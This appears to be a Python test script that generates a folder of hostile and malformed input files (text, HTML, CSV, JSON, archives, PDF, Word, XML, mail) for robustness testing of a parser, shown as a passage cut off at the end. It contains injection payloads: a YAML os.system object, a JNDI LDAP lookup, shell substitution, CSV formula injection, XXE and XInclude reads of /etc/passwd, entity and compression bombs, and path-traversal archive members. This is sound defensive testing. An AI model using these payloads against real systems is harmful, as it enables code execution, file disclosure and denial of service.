"""Makes a folder of nasty files: one class of hostile or broken input each.

`python tests/nasty.py DIR` writes them, for a look or for a run of `eventx` over them.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import os
import random
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import zstandard

STORY = "Two soldiers were killed in a rocket attack near Goma on Friday, an army spokesman said. "
PAGE = f"<html><head><title>Attack near Goma</title></head><body><p>{STORY}</p></body></html>"
MEGABYTE = 2**20

Maker = Callable[[], "bytes | str"]
FILES: dict[str, Maker] = {}


def nasty(name: str) -> Callable[[Maker], Maker]:
    """Registers what makes the content of a file."""

    def register(maker: Maker) -> Maker:
        assert name not in FILES, name
        FILES[name] = maker
        return maker

    return register


def put(name: str, content: bytes | str) -> None:
    """Registers a file of short content."""
    nasty(name)(lambda: content)


def repeat(name: str, piece: bytes | str, size: int = MEGABYTE) -> None:
    """Registers a file that repeats a piece up to a size."""
    nasty(name)(lambda: piece * (size // len(piece)))


def noise(seed: int, size: int) -> bytes:
    """Returns bytes without sense, the same for the same seed."""
    return random.Random(seed).randbytes(size)


# Text -----------------------------------------------------------------------------------------------------------------

put("empty.txt", "")
put("blank.txt", " \n\t\r\n\u00a0\u3000\n")
put("bom_only.txt", b"\xef\xbb\xbf")
put("bom16_only.txt", b"\xff\xfe")
put("one_byte.txt", b"\xff")
put("one_nul.txt", b"\x00")
put("one_letter.txt", "a")
put("scrap.txt", "Photo\n")
put("nuls_in_text.txt", (STORY * 10).replace("near", "ne\x00ar"))
put("all_nuls.txt", b"\x00" * 100_000)
put("controls.txt", STORY + "".join(map(chr, range(1, 32))) + STORY * 30)
put("escapes.txt", "\x1b]0;owned\x07\x1b[2J\x1b[31m" + STORY)
put("c1_controls.txt", "".join(map(chr, range(0x80, 0xA0))) + STORY)
put("right_to_left.txt", "\u202eSTORY\u202c \u2067" + STORY + "\u2069\u200f\u061c")
put("zero_width.txt", "\u200b".join(STORY) + "\ufeff\u2060")
put("combining.txt", "a" + "\u0301" * 100_000 + STORY)
put("line_separators.txt", "\u2028".join([STORY] * 50) + "\u2029\x85\x0b\x0c\x1c\x1d\x1e" + STORY)
put("noncharacters.txt", "\ufffe\uffff\U0001fffe\U0010ffff" + STORY)
put("private_use.txt", "\ue000\uf8ff\U000f0000" * 100 + STORY)
put("emoji.txt", "👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿" * 2000 + STORY)
put("astral.txt", "𝕋𝕨𝕠 𝕤𝕠𝕝𝕕𝕚𝕖𝕣𝕤 𝕨𝕖𝕣𝕖 𝕜𝕚𝕝𝕝𝕖𝕕. " * 100)
put("surrogates_utf8.txt", b"Two \xed\xa0\x80 soldiers \xed\xbf\xbf were killed in the town, officials said.")
put("overlong_utf8.txt", b"Two \xc0\xaf soldiers \xe0\x80\xaf were killed in the town. " * 20)
put("cut_utf8.txt", "Zoë sagte: Đurić".encode()[:-1])
put("utf16_le.txt", STORY.encode("utf-16-le"))
put("utf16_be.txt", STORY.encode("utf-16-be"))
put("utf16_odd.txt", b"\xff\xfe" + STORY.encode("utf-16-le") + b"x")
put("utf16_lone.txt", b"\xff\xfe" + STORY.encode("utf-16-le") + b"\x00\xd8" + "x".encode("utf-16-le"))
put("utf32.txt", STORY.encode("utf-32"))
put("utf7.txt", STORY.encode("utf-7"))
put("ebcdic.txt", (STORY * 5).encode("cp037"))
put("cp1252.txt", "“Nothing is left,” said Zoë’s aide.".encode("cp1252"))
put("mixed_encodings.txt", "Zoë — ".encode() + "Zoë — ".encode("cp1252") + STORY.encode() * 5)
put("double_utf8.txt", "“Zoë’s aide” — ".encode().decode("cp1252", "replace").encode() + STORY.encode())
put("koi8.txt", ("Министр обороны заявил о переговорах в столице. " * 20).encode("koi8-r"))
put("shift_jis.txt", ("防衛大臣は金曜日に首都で会談した。" * 30).encode("shift-jis"))
put("german.txt", "Zwei Soldaten wurden am Freitag bei einem Angriff nahe der Stadt getötet, sagte ein Sprecher. " * 9)
put("russian.txt", "Два солдата погибли в пятницу при ракетном обстреле, сообщил представитель армии. " * 9)
put("chinese.txt", "星期五，两名士兵在城外的火箭袭击中丧生。" * 30)
put("arabic.txt", "قتل جنديان يوم الجمعة في هجوم صاروخي بالقرب من المدينة. " * 20)
put("carriage_returns.txt", STORY.replace(". ", ".\r") * 20)
repeat("long_line.txt", STORY, 50 * MEGABYTE)
repeat("one_word.txt", "a", 10 * MEGABYTE)
repeat("only_newlines.txt", "\n", 10 * MEGABYTE)
repeat("short_lines.txt", "2\n", 5 * MEGABYTE)
repeat("only_spaces.txt", " ", 10 * MEGABYTE)
repeat("only_stops.txt", ". ", 5 * MEGABYTE)
repeat("open_brackets.txt", "([{", 5 * MEGABYTE)
repeat("quotes.txt", "\"'“", MEGABYTE)
repeat("digits.txt", "9", 5 * MEGABYTE)
repeat("dashes.txt", "- — – ", MEGABYTE)
repeat("dates.txt", "3 March 2024 ", 5 * MEGABYTE)
repeat("date_lines.txt", "3 March 2024\n", 5 * MEGABYTE)
repeat("datelines.txt", "KABUL, March 3, 2024 (X) —\n", 5 * MEGABYTE)
repeat("half_datelines.txt", "Aa Bb-Cc, Dd. " * 28 + "2024\n", 5 * MEGABYTE)
repeat("half_labels.txt", "Updated by " * 35 + "2024\n", 2 * MEGABYTE)
repeat("half_bylines.txt", "by a, " * 60 + "March 3, 202 2024\n", 2 * MEGABYTE)
repeat("gaps_2024.txt", " " * 390 + "- 2024\n", 2 * MEGABYTE)
repeat("handles.txt", "(@a) , , 2024 ", 2 * MEGABYTE)
repeat("separators.txt", "2024" + " \t" * 190 + "|\n", 2 * MEGABYTE)
put("huge_numbers.txt", f"{'9' * 5000} people and {'1,000' * 5000} more were killed on {'9' * 400} May 2024.")
put("bad_dates.txt", "KABUL, February 31, 2024 (X) — It rose. Published: 99 May 2024. Updated 0 June 2019.")
put("looks_like_yaml.txt", "!!python/object/apply:os.system ['touch owned']\n" + STORY)
put(
    "looks_like_format.txt",
    "{0.__class__} %s %n ${jndi:ldap://x.invalid/a} {{7*7}} $(touch owned) `touch owned`\n" + STORY,
)
put("binary.txt", bytes(range(256)) * 100)
put("random.txt", noise(1, 50_000))
put("random.bin", noise(2, 50_000))
put("random_without_ending", noise(3, 50_000))
put("program.bin", b"\x7fELF\x02\x01\x01" + noise(4, 20_000))
put("image.png", b"\x89PNG\r\n\x1a\n" + noise(5, 20_000))
put("named_text_is_pdf.txt", b"%PDF-1.7\n" + noise(6, 1000))

# HTML -----------------------------------------------------------------------------------------------------------------

put("deep.html", "<div>" * 1_000_000 + STORY)
put("deep_closed.html", "<b>" * 200_000 + STORY + "</b>" * 200_000)
put("deep_tables.html", "<table><tr><td>" * 30_000 + STORY)
put("deep_lists.html", "<ul><li>" * 40_000 + STORY)
put("deep_below_limit.html", "<span>" * 90_000 + STORY)
put("deep_dated.html", '<div itemprop="datePublished">' * 90_000 + STORY)
put("many_times.html", "<html><body>" + '<time datetime="2024-03-03">x</time>' * 45_000 + STORY)
put("many_metas.html", "<html><head>" + '<meta name="date" content="2024-13-45">' * 40_000 + STORY)
put("many_attributes.html", "<p " + " ".join(f'a{n}="x"' for n in range(100_000)) + f">{STORY}</p>")
put("long_attribute.html", f'<p title="{"x" * 5_000_000}">{STORY}</p>')
put("unclosed_comments.html", "<!--" * 200_000 + STORY)
put("comments_then_text", "<!---->" * 1100 + STORY)
put("unclosed_declarations.html", "<![" * 300_000 + STORY)
put("unclosed_tags.html", "<a " * 300_000 + STORY)
put("unclosed_scripts.html", "<script>" * 90_000 + STORY)
put("only_brackets.html", "<" * 1_000_000 + STORY)
put("nul_tags.html", PAGE.replace("<p>", "<p\x00>"))
put("entities.html", PAGE.replace("Two", "&amp;" * 100_000 + "&#0;&#x110000;&#xD800;&bogus;" + "Two"))
put("bad_charset.html", PAGE.replace("<head>", '<head><meta charset="no-such-charset">'))
put("charset_bomb.html", PAGE.replace("<head>", '<head><meta charset="zlib_codec">'))
put("utf7_charset.html", PAGE.replace("<head>", '<head><meta charset="utf-7">'))
put("wrong_charset.html", PAGE.replace("<head>", '<head><meta charset="utf-16">'))
put("only_script.html", "<html><body><script>while(true){}</script></body></html>")
put(
    "external.html",
    PAGE.replace("<head>", '<head><base href="http://x.invalid/"><link rel="stylesheet" href="//x.invalid/a">'),
)
put("refresh.html", PAGE.replace("<head>", '<head><meta http-equiv="refresh" content="0;url=file:///etc/passwd">'))
put("json_ld_deep.html", PAGE.replace("<head>", f'<head><script type="application/ld+json">{"[" * 100_000}</script>'))
put(
    "json_ld_date.html",
    PAGE.replace("<head>", '<head><script type="application/ld+json">{"datePublished":"' + "9" * 10_000),
)
put("doctype_bomb.html", '<!DOCTYPE html [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>' + PAGE)
put("frameset.html", "<html><frameset><frame src='file:///etc/passwd'></frameset></html>")
put("svg.html", f"<html><body><svg>{'<g>' * 50_000}</svg><p>{STORY}</p></body></html>")
put("random.html", b"<html>" + noise(7, 50_000))
put("upper.htm", PAGE.upper())
repeat("tags_and_words.html", "<p>a<i>b</i>", 3 * MEGABYTE)

# JSON lines, tables ---------------------------------------------------------------------------------------------------

put("deep.jsonl", "[" * 200_000 + "\n" + '{"a":' * 100_000 + "\n" + json.dumps({"text": STORY}))
put("deep_extra.jsonl", '{"text": "' + STORY + '", "x": ' + "[" * 900 + "]" * 900 + "}")
put("surrogates.jsonl", '{"text": "Two \\ud800 soldiers \\udfff were killed.", "id": "\\ud800", "title": "\\udc00"}')
put("torn.jsonl", json.dumps({"text": STORY}) + "\n" + '{"text": "Two sold')
put("wrong_types.jsonl", "\n".join(['{"text": 1}', '{"text": null}', "null", "1e999", '"x"', '{"text": ["a"]}', "{}"]))
put("wrong_fields.jsonl", json.dumps({"text": STORY, "id": [1], "date": {"a": 1}, "title": 1e300, "source": True}))
put("nan.jsonl", '{"text": "' + STORY + '", "x": NaN, "y": Infinity, "z": -Infinity}')
put("long_number.jsonl", '{"text": ' + "9" * 100_000 + "}")
put("same_keys.jsonl", '{"text": "a", "text": "' + STORY + '"}')
put("climbing_id.jsonl", json.dumps({"id": "../../owned", "text": STORY, "source": "file:///etc/passwd"}))
put("escaping_id.jsonl", json.dumps({"id": "\x1b[2J\n\u202e", "text": STORY, "title": "\x1b]0;owned\x07"}))
put("long_id.jsonl", json.dumps({"id": "x" * 100_000, "text": STORY}))
put("nul_text.jsonl", json.dumps({"text": "\x00" * 1000 + STORY}))
put("separators.jsonl", json.dumps({"text": f"{STORY}\u2028{STORY}\u2029\x85"}, ensure_ascii=False))
put("utf16.jsonl", (json.dumps({"text": STORY}) + "\n" + json.dumps({"text": STORY})).encode("utf-16"))
put("bom.jsonl", b"\xef\xbb\xbf" + json.dumps({"text": STORY}).encode())
put(
    "far_date.jsonl",
    json.dumps({"text": STORY, "date": "99999-01-01"}) + "\n" + json.dumps({"text": STORY, "date": "0000-00-00"}),
)
put("mail_date.jsonl", json.dumps({"text": STORY, "date": "Mon, 99 Foo 99999 99:99:99 +9999999999"}))
put("random.jsonl", b'{"text": "' + noise(8, 20_000))
repeat("blank_lines.jsonl", "\n", 5 * MEGABYTE)
repeat("broken_lines.jsonl", "{\n", MEGABYTE // 10)
put("unclosed_quote.csv", 'text,date\n"' + STORY * 1000)
put("quotes.csv", "text\n" + '"' * 1_000_001)
put("nuls.csv", f"text,date\n{STORY}\x00,2024-03-03\n")
put("no_text_column.csv", "a,b\n1,2\n")
put("one_cell.csv", "text")
put("ragged.csv", f"text,date\n{STORY},2024-03-03,x,y\n\n,\n{STORY.split(',', maxsplit=1)[0]}\n")
put("many_columns.csv", ",".join(f"c{n}" for n in range(200_000)) + ",text\n" + "," * 200_000 + STORY.replace(",", ""))
put("formula.csv", 'id,text\n"=cmd|\' /C calc\'!A0","=HYPERLINK(""http://x.invalid"") killed two people."\n')
put("mac_lines.csv", "text\rTwo people were killed.\rThree people were killed.\r")
put("utf16.csv", f"text\n{STORY.replace(',', '')}\n".encode("utf-16"))
put("same_columns.tsv", f"text\ttext\tid\n{STORY}\tx\t1\n")
put("random.csv", noise(9, 20_000))
repeat("long_row.csv", '""', 20 * MEGABYTE)


# Archives and compression ---------------------------------------------------------------------------------------------


def zipped(members: dict[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Returns a ZIP archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method, compresslevel=1 if method == zipfile.ZIP_DEFLATED else None) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def tarred(members: dict[str, bytes | str], mode: str = "w", **headers: object) -> bytes:
    """Returns a TAR archive whose members have these fields in their headers."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:  # type: ignore[call-overload]
        for name, content in members.items():
            data = content.encode() if isinstance(content, str) else content
            member = tarfile.TarInfo(name)
            member.size = len(data)
            for key, value in headers.items():
                setattr(member, key, value)
            archive.addfile(member, io.BytesIO(data))
    return out.getvalue()


@nasty("bomb.txt.gz")
def _() -> bytes:
    return gzip.compress(bytes(100 * MEGABYTE), 1)


@nasty("bomb_of_lines.jsonl.gz")
def _() -> bytes:
    return gzip.compress(b"\n" * (200 * MEGABYTE), 1)


@nasty("bomb.txt.bz2")
def _() -> bytes:
    return bz2.compress(bytes(80 * MEGABYTE), 9)


@nasty("bomb.txt.zst")
def _() -> bytes:
    compressor = zstandard.ZstdCompressor().compressobj()
    return b"".join(compressor.compress(bytes(MEGABYTE)) for _ in range(1000)) + compressor.flush()


@nasty("window.txt.zst")
def _() -> bytes:
    return b"\x28\xb5\x2f\xfd" + b"\x00" + b"\xf8" + noise(10, 100)


@nasty("layers.txt.gz.gz.gz.gz.gz.gz.gz.gz")
def _() -> bytes:
    data = STORY.encode()
    for _ in range(8):
        data = gzip.compress(data)
    return data


@nasty("bomb_in_bomb.gz.gz")
def _() -> bytes:
    return gzip.compress(gzip.compress(bytes(200 * MEGABYTE), 1), 1)


put("broken.txt.gz", gzip.compress(STORY.encode() * 500)[:-40])
put("wrong_sum.txt.gz", gzip.compress(STORY.encode())[:-8] + b"\x00" * 8)
put("trailing.txt.gz", gzip.compress(STORY.encode()) + b"trailing rubbish")
put("not_gzip.txt.gz", STORY)
put("head_only.gz", b"\x1f\x8b\x08")
put("empty_inside.gz", gzip.compress(b""))
put("broken.txt.bz2", bz2.compress(STORY.encode() * 500)[:-20])
put("broken.txt.zst", zstandard.ZstdCompressor().compress(noise(11, 5000))[:-500])
put("random.gz", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + noise(12, 20_000))
put("random.zst", b"\x28\xb5\x2f\xfd" + noise(13, 20_000))
put("random.bz2", b"BZh9" + noise(14, 20_000))
put("xz.txt.xz", b"\xfd7zXZ\x00" + noise(15, 1000))
put(
    "climbing.zip",
    zipped({"../../../../tmp/owned.txt": STORY, "/etc/owned.txt": STORY + "2", "..\\..\\owned.txt": STORY + "3"}),
)
put(
    "strange_names.zip",
    zipped({"a\nb.txt": STORY, "\x1b[2J.txt": STORY + "2", "\u202etxt.exe": STORY + "3", "x" * 5000: STORY + "4"}),
)
put("same_names.zip", zipped({"a.txt": STORY, "A.txt": STORY + "2", "./a.txt": STORY + "3"}))
put("hidden.zip", zipped({".hidden.txt": STORY, "__MACOSX/a.txt": STORY, "d/": "", "seen.txt": STORY}))
put("empty.zip", zipped({}))
put("mixed.zip", zipped({"a.html": PAGE, "b.jsonl": json.dumps({"text": STORY}), "c.bin": noise(16, 999), "d.txt": ""}))
put("bzip2_method.zip", zipped({"a.txt": bytes(10 * MEGABYTE)}, zipfile.ZIP_BZIP2))
put("lzma_method.zip", zipped({"a.txt": STORY}, zipfile.ZIP_LZMA))
put("broken.zip", zipped({"a.txt": STORY})[:-10])
put("cut.zip", zipped({"a.txt": STORY, "b.txt": noise(17, 5000)})[:3000])
put("wrong_sum.zip", zipped({"a.txt": STORY}, zipfile.ZIP_STORED).replace(b"Two soldiers", b"Six soldiers", 1))
put(
    "encrypted.zip",
    zipped({"a.txt": STORY}).replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00"),
)
put("random.zip", b"PK\x03\x04" + noise(18, 20_000))
put("not_zip.zip", STORY)
put("office.xlsx", zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<x/>"}))


@nasty("bomb.zip")
def _() -> bytes:
    return zipped({f"{n}.txt": bytes(70 * MEGABYTE) for n in range(4)})


@nasty("overlapping.zip")
def _() -> bytes:
    """One compressed block that hundreds of members claim as theirs."""
    data = zipped({"a.txt": bytes(65 * MEGABYTE)})
    at = data.rindex(b"PK\x01\x02")
    end = data.rindex(b"PK\x05\x06")
    entry = data[at:end]
    many = 500
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, many, many, len(entry) * many, at, 0)
    return data[:at] + entry * many + tail


@nasty("nested.zip")
def _() -> bytes:
    data = zipped({"a.txt": STORY})
    for level in range(12):
        data = zipped({f"{level}.zip": data})
    return data


@nasty("wide_nested.zip")
def _() -> bytes:
    data = zipped({f"{n}.txt": STORY + str(n) for n in range(20)})
    for _ in range(3):
        data = zipped({f"{n}.zip": data for n in range(20)})
    return data


@nasty("many_members.zip")
def _() -> bytes:
    return zipped({f"{n}.txt": f"{n} people were killed." for n in range(3000)})


@nasty("long_directory.zip")
def _() -> bytes:
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    many = 800_000
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 65535, 65535, len(entry) * many, 4, 0)
    return b"PK\x03\x04" + entry * many + end


put("climbing.tar", tarred({"../../../../tmp/owned.txt": STORY, "/etc/owned.txt": STORY + "2"}))
put("links.tar", tarred({"a.txt": b""}, type=tarfile.SYMTYPE, linkname="/etc/passwd"))
put("hardlink.tar", tarred({"a.txt": b""}, type=tarfile.LNKTYPE, linkname="../../etc/passwd"))
put("device.tar", tarred({"a.txt": b""}, type=tarfile.CHRTYPE, devmajor=1, devminor=5))
put("pipe.tar", tarred({"a.txt": b""}, type=tarfile.FIFOTYPE))
put("sparse.tar", tarred({"a.txt": b"x" * 600}, type=tarfile.GNUTYPE_SPARSE))
put("strange_names.tar", tarred({"a\nb\x1b[2J.txt": STORY, "ä" * 400 + ".txt": STORY + "2"}))
put("broken.tar", tarred({"a.txt": STORY, "b.txt": noise(19, 9000)})[:3000])
put("damaged_middle.tar", tarred({"a.txt": STORY})[:1024] + noise(20, 512) + tarred({"b.txt": STORY + "2"}))
put("empty.tar", tarred({}))
put("random.tar", noise(21, 20_480))
put("ustar_random", noise(22, 257) + b"ustar\x0000" + noise(23, 20_000))
put("good.tar.gz", gzip.compress(tarred({"a.txt": STORY, "b/c.html": PAGE})))
put("cut.tar.gz", gzip.compress(tarred({"a.txt": STORY, "b.txt": noise(24, 90_000)}))[:-3000])


@nasty("bomb.tar.gz")
def _() -> bytes:
    return gzip.compress(tarred({f"{n}.txt": bytes(70 * MEGABYTE) for n in range(3)}), 1)


@nasty("long_header.tar.gz")
def _() -> bytes:
    """An extended header, which is held in memory, of 150 MB."""
    header = tarfile.TarInfo("x")
    header.type, header.size = tarfile.XHDTYPE, 150 * MEGABYTE
    return gzip.compress(header.tobuf() + b"9" * (150 * MEGABYTE), 1)


# PDF, Word, XML -------------------------------------------------------------------------------------------------------


def pdf(stream: bytes, *, more: bytes = b"", count: int = 1, deflate: bool = False) -> bytes:
    """Returns a PDF file whose pages all show the same stream."""
    if deflate:
        stream = zlib.compress(stream, 1)
    kids = b" ".join(b"3 0 R" for _ in range(count))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, count),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> >>",
        b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(stream), b"/Filter /FlateDecode" * deflate, stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >> /Length 4 >>\n"
        b"stream\n/X Do\nendstream",
    ]
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, more, start)
    return bytes(out)


def shown(text: str, *, leading: int = 14) -> bytes:
    """Returns what draws lines of text on a page."""
    lines = (line.replace("\\", r"\\").replace("(", r"\(").replace(")", r"\)") for line in text.split("\n"))
    return f"BT /F1 11 Tf {leading} TL 72 720 Td {' '.join(f'({line}) Tj T*' for line in lines)} ET".encode("latin-1")


put("good.pdf", pdf(shown(STORY)))
put("broken.pdf", pdf(shown(STORY))[:300])
put("no_table.pdf", pdf(shown(STORY)).replace(b"startxref", b"startxxxx"))
put("random.pdf", b"%PDF-1.7\n" + noise(25, 50_000))
put("not_pdf.pdf", STORY)
put("no_text.pdf", pdf(b"0 0 100 100 re f"))
put("no_pages.pdf", pdf(b"", count=0))
put(
    "encrypted.pdf",
    pdf(shown(STORY), more=b"/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >> /ID [(a)(b)]"),
)
put(
    "javascript.pdf",
    pdf(shown(STORY)).replace(b"/Pages 2 0 R", b"/Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL) >>"),
)
put("loop.pdf", pdf(shown(STORY)).replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"))
put("self_form.pdf", pdf(shown(STORY) + b" /X Do"))
put("previous_loop.pdf", pdf(shown(STORY), more=b"/Prev 9"))
put("deep_arrays.pdf", pdf(shown(STORY), more=b"/Info " + b"[" * 100_000))
put("many_pages.pdf", pdf(shown(STORY), count=2100))
put("bad_operators.pdf", pdf(b"BT /F1 (x) Tf [[[ (a) -9999999999999 ] TJ /Nope 1e999 Td ( ET " + shown(STORY)))


@nasty("bomb.pdf")
def _() -> bytes:
    return pdf(b" " * (50 * MEGABYTE), deflate=True)


@nasty("many_words.pdf")
def _() -> bytes:
    return pdf(b"BT /F1 11 Tf " + b"(a) Tj " * 150_000 + b"ET", deflate=True)


@nasty("heavy_pages.pdf")
def _() -> bytes:
    return pdf(b"q Q " * 1_500_000, deflate=True, count=50)


_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_BOMB = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
)
_EXTERNAL = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def word(body: str, head: str = "") -> bytes:
    """Returns a Word document."""
    return zipped({"word/document.xml": f"{head}<w:document {_W}><w:body>{body}</w:body></w:document>"})


put("good.docx", word(f"<w:p><w:r><w:t>{STORY}</w:t></w:r></w:p>"))
put("bomb_entities.docx", word("<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", _BOMB + "]>"))
put("external.docx", word("<w:p><w:r><w:t>&a;</w:t></w:r></w:p>", _EXTERNAL))
put("deep.docx", word("<w:p>" * 200_000))
put("no_document.docx", zipped({"a.txt": STORY}))
put("broken.docx", word(f"<w:p><w:r><w:t>{STORY}</w:t></w:r></w:p>")[:-30])
put("broken_xml.docx", word("<w:p><w:r><w:t>" + STORY)[:-1])
put("random.docx", b"PK\x03\x04" + noise(26, 20_000))
put(
    "properties_bomb.docx",
    zipped({"word/document.xml": f"<d><p><t>{STORY}</t></p></d>", "docProps/core.xml": _BOMB + "]><a>&j;</a>"}),
)


@nasty("bomb.docx")
def _() -> bytes:
    return word("<w:p><w:r><w:t>" + " " * (70 * MEGABYTE) + "</w:t></w:r></w:p>")


@nasty("many_elements.docx")
def _() -> bytes:
    return word("<w:p/>" * 600_000)


put("bomb.nitf", _BOMB + "]><nitf><body><p>&j;</p></body></nitf>")
put("external.nitf", _EXTERNAL + "<nitf><body><body.content><p>&a;</p></body.content></body></nitf>")
put(
    "external_dtd.nitf",
    f'<!DOCTYPE nitf SYSTEM "http://x.invalid/nitf.dtd"><nitf><body><body.content><p>{STORY}&nbsp;</p></body.content></body></nitf>',
)
put("parameter.nitf", '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://x.invalid/a"> %a;]><nitf><body><p>x</p></body></nitf>')
put("quadratic.nitf", f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]><nitf><body><p>{"&a;" * 50_000}</p></body></nitf>')
put("deep.nitf", "<nitf>" + "<p>" * 500_000)
put("attributes.nitf", "<nitf " + " ".join(f'a{n}="x"' for n in range(50_000)) + f"><body><p>{STORY}</p></body></nitf>")
put("unknown.xml", f"<?xml version='1.0'?><thing>{STORY}</thing>")
put("unknown_encoding.xml", f"<?xml version='1.0' encoding='no-such'?><nitf><body><p>{STORY}</p></body></nitf>")
put("utf16.xml", f"<?xml version='1.0' encoding='utf-16'?><nitf><body><p>{STORY}</p></body></nitf>".encode("utf-16"))
put(
    "includes.xml",
    '<?xml version="1.0"?><nitf xmlns:xi="http://www.w3.org/2001/XInclude">'
    '<xi:include href="file:///etc/passwd" parse="text"/></nitf>',
)
put("stylesheet.xml", '<?xml version="1.0"?><?xml-stylesheet href="http://x.invalid/a.xsl" type="text/xsl"?><nitf/>')
put("bomb.rss", _BOMB + "]><rss><channel><item><title>&j;</title></item></channel></rss>")
put(
    "external.rss",
    _EXTERNAL
    + f"<rss version='2.0'><channel><item><title>&a;</title><description>{STORY}</description></item></channel></rss>",
)
put("broken.rss", f"<rss version='2.0'><channel><item><title>Attack<description>{STORY}</channel>")
put("no_entries.rss", "<rss version='2.0'><channel><title>News</title></channel></rss>")
put("not_a_feed.rss", STORY)
put("address.rss", "http://x.invalid/feed.rss")
put("deep.rss", "<rss version='2.0'><channel><item>" + "<a>" * 20_000)
put(
    "bad_dates.atom",
    f"<feed xmlns='http://www.w3.org/2005/Atom'><entry><updated>{'9' * 5000}</updated>"
    f"<summary>{STORY}</summary></entry></feed>",
)
put("random.rss", b"<rss>" + noise(27, 20_000))
put("half_tags.rss", "<rss><channel>" + "<item " * 20_000)

# Mail, web archives ---------------------------------------------------------------------------------------------------

_MAIL = f"From: a@x.invalid\nDate: Fri, 08 Mar 2024 10:00:00 +0000\nSubject: Attack\n\n{STORY}\n"
put("good.eml", _MAIL)
put("no_headers.eml", STORY)
put("no_body.eml", "From: a@x.invalid\nSubject: Attack\n\n")
put(
    "bad_headers.eml", "From: =?no-such?B?!!!?=\nDate: 99 Foo\nSubject: =?utf-8?Q?=FF=FE=00?= =?utf-8?B?a?=\n\n" + STORY
)
put("nul_headers.eml", _MAIL.replace("Attack", "At\x00tack\r\x0b"))
put("long_header.eml", _MAIL.replace("Attack", "x" * 5_000_000))
put("many_headers.eml", "X-A: b\n" * 300_000 + _MAIL)
put("encoded_words.eml", _MAIL.replace("Attack", "=?utf-8?Q?a?= " * 100_000))
put("bad_charset.eml", _MAIL.replace("\n\n", "\nContent-Type: text/plain; charset=zlib_codec\n\n"))
put("bad_base64.eml", _MAIL.replace("\n\n", "\nContent-Transfer-Encoding: base64\n\n!!!!"))
put("uuencode.eml", _MAIL.replace("\n\n", "\nContent-Transfer-Encoding: x-uuencode\n\nbegin 644 x\n!!!!\n"))
put("no_boundary.eml", _MAIL.replace("\n\n", "\nContent-Type: multipart/mixed\n\n"))
put("attachment.eml", _MAIL.replace("\n\n", "\nContent-Disposition: attachment; filename=../../owned.sh\n\n"))
put("html.eml", _MAIL.replace("\n\n", "\nContent-Type: text/html\n\n<img src=http://x.invalid/pixel>"))


@nasty("deep.eml")
def _() -> str:
    levels = 2000
    head = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(levels))
    return f"From: a@x.invalid\nSubject: Deep\n{head}Content-Type: text/plain\n\n{STORY}\n"


@nasty("deep_messages.eml")
def _() -> str:
    return "From: a@x.invalid\nSubject: Deep\n" + "Content-Type: message/rfc822\n\n" * 3000 + STORY


@nasty("many_parts.eml")
def _() -> str:
    part = "--b\nContent-Type: text/plain\n\nTwo people died.\n"
    return (
        'From: a@x.invalid\nSubject: Many\nContent-Type: multipart/mixed; boundary="b"\n\n' + part * 20_000 + "--b--\n"
    )


put(
    "good.mbox",
    f"From a@x.invalid Fri Mar 08 10:00:00 2024\n{_MAIL}\nFrom b@x.invalid Fri Mar 08 11:00:00 2024\n{_MAIL}2",
)
put("broken.mbox", f"{STORY}\nFrom nobody\n{STORY}")
put("empty_messages.mbox", "From a@x.invalid Fri Mar 08 10:00:00 2024\n\n" * 5000)
put("random.mbox", b"From a@x.invalid Fri Mar 08 10:00:00 2024\n" + noise(28, 50_000))
repeat("from_lines.mbox", "From \n\n", 2 * MEGABYTE)
repeat("long_from.mbox", "From 10:00" + "9" * 5000, 5 * MEGABYTE)


def warc(*records: tuple[str, bytes]) -> bytes:
    """Returns a web archive of responses."""
    out = []
    for n, (head, body) in enumerate(records):
        block = b"HTTP/1.1 200 OK\r\n" + head.encode() + b"\r\n\r\n" + body
        fields = (
